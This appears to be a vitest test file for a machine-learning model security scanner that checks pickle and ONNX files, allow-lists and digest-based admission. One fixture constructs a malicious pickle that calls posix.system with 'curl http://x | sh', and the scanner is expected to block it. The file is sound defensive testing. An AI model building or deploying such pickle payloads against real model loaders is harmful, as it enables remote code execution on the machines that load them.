import { mkdir, mkdtemp, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { linearModel } from '../../test/fixtures/linear-model.ts'
import * as p from '../../test/fixtures/pickle-assembler.ts'
import { stepContext } from '../../test/fixtures/step-context.ts'
import { sha256 } from '../core/digest.ts'
import { decodeOnnx, encodeOnnx } from '../drivers/onnx-proto.ts'
import { admitModel } from './admit-model.ts'
import { securityScan } from './security-scan.ts'

const EVIL = p.pickle(p.call('posix', 'system', p.text('curl http://x | sh')))
const UNKNOWN = p.pickle(p.call('my_company', 'Model'))
const GOOD = p.pickle(p.global('sklearn.linear_model._logistic', 'LogisticRegression'), p.EMPTY_TUPLE, p.NEWOBJ)

async function project(files: Record<string, Uint8Array>) {
  const cwd = await mkdtemp(join(tmpdir(), 'plimsoll-scan-'))
  await mkdir(join(cwd, 'artifacts'))
  for (const [name, content] of Object.entries(files)) await writeFile(join(cwd, 'artifacts', name), content)
  return stepContext(cwd)
}

test('a clean model passes, and the report names the digest of what was read', async () => {
  const report = await securityScan.run(await project({ 'model.pkl': GOOD }), {
    model: 'artifacts/model.pkl',
    level: 'framework',
  })
  expect(report).toMatchObject({
    verdict: 'pass',
    summary: `1 file, ${GOOD.length} bytes, 0 findings`,
    subject: { kind: 'model', name: 'artifacts/model.pkl', digest: sha256(GOOD) },
  })
  expect(report.results[0]?.message).toContain('all examined: nothing found')
})

test('a pickle that is named .onnx is stopped with a message that a newcomer understands', async () => {
  const report = await securityScan.run(await project({ 'model.onnx': EVIL }), {
    model: 'artifacts/model.onnx',
    level: 'framework',
  })
  const [result] = report.results
  expect(report.verdict).toBe('fail')
  expect(result?.message).toBe('At byte 41, REDUCE calls posix.system("curl http://x | sh"): runs programs (and 1 more finding)')
  expect(result?.hint).toContain('Do not load the file')
  expect(result?.location).toEqual({ file: 'artifacts/model.onnx', byteOffset: 41 })
  expect(result?.findings.map(({ rule }) => rule)).toEqual(['pickle.dangerous-call', 'format.disagrees'])
})

test('a folder gives one result for each file', async () => {
  const context = await project({ 'a.pkl': GOOD, 'b.pkl': UNKNOWN, 'c.bin': Uint8Array.from([0xff, 0xff]) })
  const report = await securityScan.run(context, { model: 'artifacts', level: 'framework' })
  expect(report.results.map(({ title, verdict }) => [title, verdict])).toEqual([
    ['artifacts/a.pkl', 'pass'],
    ['artifacts/b.pkl', 'fail'],
    ['artifacts/c.bin', 'error'],
  ])
  expect(report.results[1]?.hint).toContain('scan-allow.yaml')
  expect(report.results[1]?.hint).toContain('Names to review: my_company.Model.')
  expect(report.results[2]?.hint).toContain('Remove the file')
})

test('what the project allows by name passes, in the scan and in the gate before loading', async () => {
  const context = await project({ 'b.pkl': UNKNOWN })
  await writeFile(
    join(context.cwd, 'scan-allow.yaml'),
    "allow:\n  - name: my_company.Model\n    reason: our own, reviewed\n    expires: '2099-01-01'\n",
  )
  const report = await securityScan.run(context, { model: 'artifacts', level: 'framework' })
  expect(report.verdict).toBe('pass')
  await expect(admitModel(context)(join(context.cwd, 'artifacts/b.pkl'))).resolves.toBe(sha256(UNKNOWN))
  await writeFile(join(context.cwd, 'scan-allow.yaml'), 'allow:\n  - name: posix.system\n    reason: no\n')
  await expect(securityScan.run(context, { model: 'artifacts', level: 'framework' })).rejects.toMatchObject({ code: 'E_VALUE' })
})

test('several paths, each file once; at the level audit nothing is refused, and nothing passes either', async () => {
  const context = await project({ 'a.pkl': GOOD, 'b.pkl': UNKNOWN })
  const report = await securityScan.run(context, { model: ['artifacts/b.pkl', 'artifacts'], level: 'audit' })
  expect(report.results.map(({ title, verdict }) => [title, verdict])).toEqual([
    ['artifacts/b.pkl', 'warn'],
    ['artifacts/a.pkl', 'pass'],
  ])
  expect(report.details).toMatchObject({ level: 'audit', ruleset: expect.stringMatching(/^sha256:/) as string })
  const strict = await securityScan.run(context, { model: 'artifacts/a.pkl', level: 'strict' })
  expect(strict.verdict).toBe('fail')
})

test('a missing file and an empty folder are told as such', async () => {
  const context = await project({})
  await expect(securityScan.run(context, { model: 'model.pkl', level: 'framework' })).rejects.toMatchObject({
    code: 'E_FILE_MISSING',
  })
  await expect(securityScan.run(context, { model: 'artifacts', level: 'framework' })).rejects.toMatchObject({
    code: 'E_FILE_MISSING',
  })
})

test('a model is admitted by the digest of what was scanned, or not at all', async () => {
  const context = await project({ 'good.pkl': GOOD, 'evil.pkl': EVIL, 'cut.pkl': GOOD.subarray(0, 20) })
  const admit = admitModel(context)
  expect(await admit(join(context.cwd, 'artifacts/good.pkl'))).toBe(sha256(GOOD))
  for (const name of ['evil.pkl', 'cut.pkl']) {
    await expect(admit(join(context.cwd, 'artifacts', name))).rejects.toMatchObject({
      code: 'E_MODEL_UNSCANNED',
      message: expect.stringContaining(`artifacts/${name} is not loaded`) as string,
    })
  }
})

test('an ONNX model with weights beside it: an error that says so, and what to do', async () => {
  const model = decodeOnnx(linearModel(1))
  const weights = { name: 'w', dims: [1], dataType: 1, dataLocation: 1, externalData: [{ key: 'location', value: 'model.data' }] }
  const bytes = encodeOnnx({ ...model, graph: { ...model.graph, initializer: [weights] } })
  const report = await securityScan.run(await project({ 'model.onnx': bytes }), {
    model: 'artifacts/model.onnx',
    level: 'framework',
  })
  expect(report).toMatchObject({
    verdict: 'error',
    results: [
      {
        message: 'Weights of the model are in "model.data" beside it: its digest does not cover them',
        hint: expect.stringContaining('save_as_external_data=False') as string,
      },
    ],
  })
})
